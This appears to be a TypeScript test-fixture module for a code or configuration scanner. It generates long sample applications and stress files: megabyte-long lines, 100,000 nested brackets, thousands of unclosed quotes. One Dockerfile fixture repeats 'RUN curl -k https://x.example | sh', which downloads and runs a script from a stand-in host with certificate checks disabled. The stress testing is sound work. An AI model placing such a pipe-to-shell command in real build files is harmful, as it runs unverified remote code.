import * as sources from './sources.js';
import { Words } from './words.js';
import { service } from './workspace.js';

const WRITERS: Readonly<Record<string, { readonly path: string; readonly write: sources.Writer }>> = {
  python: { path: `services/${service(0)}/main.py`, write: sources.fastapi },
  typescript: { path: `packages/${service(0)}/server.ts`, write: sources.express },
  dockerfile: { path: `services/${service(0)}/Dockerfile`, write: sources.dockerfile },
  yaml: { path: 'deploy/long/everything.yaml', write: sources.kubernetes },
};

export const longFormats = Object.keys(WRITERS);

/** A file of about so many lines that holds what rules look for: an application, an image, manifests. */
export function longFile(format: string, lines: number): { readonly path: string; readonly text: string } {
  const writer = WRITERS[format];
  if (!writer) throw new Error(`There is no long file in '${format}'.`);
  const written = writer.write(new Words(3), lines * 90).split('\n');
  return { path: writer.path, text: `${written.slice(0, lines).join('\n')}\n` };
}

const deep = (open: string, close: string, levels: number, inside = ''): string => open.repeat(levels) + inside + close.repeat(levels);

/** Files that nobody wrote to be read, or somebody wrote to do harm. */
export const worstFiles: readonly { readonly name: string; readonly path: string; readonly text: () => string }[] = [
  { name: '5 MB in one line of text', path: 'a.txt', text: () => 'token password key='.repeat(270_000) },
  { name: '5 MB of letters without a space', path: 'b.txt', text: () => 'aA0_-'.repeat(1_000_000) },
  { name: '5 MB in one line of JSON', path: 'a.json', text: () => `[${'{"password":"","token":1},'.repeat(200_000)}0]` },
  { name: '5 MB in one line of JavaScript', path: 'a.js', text: () => 'var password=f("");'.repeat(270_000) },
  { name: '5 MB in one line of Python', path: 'a.py', text: () => `fastapi = [${'"password", '.repeat(420_000)}]` },
  { name: '1 MB of minified JavaScript', path: 'b.js', text: () => sources.minified(new Words(5), 1_000_000) },
  { name: '1 MB of Python', path: 'b.py', text: () => sources.fastapi(new Words(5), 1_000_000) },
  { name: '1 MB of TypeScript', path: 'b.ts', text: () => sources.express(new Words(5), 1_000_000) },
  { name: '1 MB of manifests', path: 'b.yaml', text: () => sources.kubernetes(new Words(5), 1_000_000) },
  { name: '1 MB of a lock file', path: 'pnpm-lock.yaml', text: () => sources.yamlLock(new Words(5), 1_000_000) },
  { name: '100,000 brackets of JSON', path: 'c.json', text: () => `{"password":"x","a":${deep('[', ']', 100_000)}}` },
  { name: '100,000 brackets of Python', path: 'c.py', text: () => `import fastapi\npassword = "x"\na = ${deep('(', ')', 100_000, '1')}\n` },
  {
    name: '100,000 brackets of JavaScript',
    path: 'c.js',
    text: () => `import express from 'express';\nconst password = "x";\nconst a = ${deep('[', ']', 100_000)};\n`,
  },
  { name: '100,000 brackets of YAML', path: 'c.yaml', text: () => `services:\n  password: ${deep('[', ']', 100_000)}\n` },
  { name: '20,000 open quotes of Python', path: 'd.py', text: () => `import fastapi\n${'password = "\n'.repeat(20_000)}` },
  {
    name: '20,000 open templates of JavaScript',
    path: 'd.js',
    text: () => `import express from 'express';\n${'password = `${\n'.repeat(20_000)}`,
  },
  {
    name: '20,000 instructions of a Dockerfile',
    path: 'Dockerfile',
    text: () => `FROM node:20\n${'RUN curl -k https://x.example | sh && \\\n'.repeat(20_000)}`,
  },
];
